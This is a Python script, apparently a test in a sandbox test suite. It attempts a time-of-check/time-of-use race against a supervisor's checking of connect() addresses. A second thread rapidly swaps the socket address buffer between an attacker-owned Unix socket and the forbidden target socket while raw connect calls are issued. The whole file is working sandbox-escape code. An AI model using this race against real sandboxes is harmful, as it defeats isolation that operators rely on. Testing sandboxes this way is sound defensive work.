# Another thread changes the address between the one of our own socket and theirs.
import ctypes
import os
import socket
import sys
import threading
import time

from inside import call, run, unix

CONNECT = 42 if os.uname().machine == "x86_64" else 203
ENOUGH = 2.0  # seconds


def attack(target):
    sys.setswitchinterval(1e-6)
    mine = f"{target.directory}/" + "m" * len(os.path.basename(target.name))
    own = socket.socket(socket.AF_UNIX)
    own.bind(mine)
    own.listen(1)
    own.setblocking(False)
    addresses = [unix(mine), unix(target.name)]
    address = ctypes.create_string_buffer(addresses[0], len(addresses[0]))
    over = threading.Event()

    def change():
        while not over.is_set():
            for one in addresses:
                ctypes.memmove(address, one, len(one))
                time.sleep(0)

    thread = threading.Thread(target=change)
    thread.start()
    end = time.monotonic() + ENOUGH
    refused = OSError("never")
    try:
        while time.monotonic() < end:
            with socket.socket(socket.AF_UNIX) as client:
                try:
                    call(CONNECT, client.fileno(), address, len(addresses[0]))
                    if client.getpeername() == target.name:
                        client.sendall(b"out")
                        return
                    own.accept()[0].close()
                except OSError as error:
                    refused = error
        raise refused
    finally:
        over.set()
        thread.join()


run(attack)
